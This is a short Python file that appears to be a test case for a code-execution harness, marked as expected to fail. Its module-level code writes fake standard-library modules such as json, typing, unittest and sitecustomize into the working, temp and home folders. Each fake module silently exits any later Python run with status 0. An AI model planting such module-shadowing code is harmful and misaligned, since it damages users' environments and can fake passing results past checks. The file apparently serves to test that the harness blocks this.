# expect: fail
# how: drops modules with the names of the standard library's into every folder it may write

import os
import tempfile

for folder in {os.getcwd(), tempfile.gettempdir(), os.path.expanduser("~")}:
    for name in ("json", "marshal", "struct", "random", "sitecustomize", "usercustomize", "unittest", "typing"):
        try:
            with open(os.path.join(folder, name + ".py"), "w") as file:
                file.write("import os\nos._exit(0)\n")
        except OSError:
            pass

def __ENTRY__(*args, **kwargs):
    return "attack"
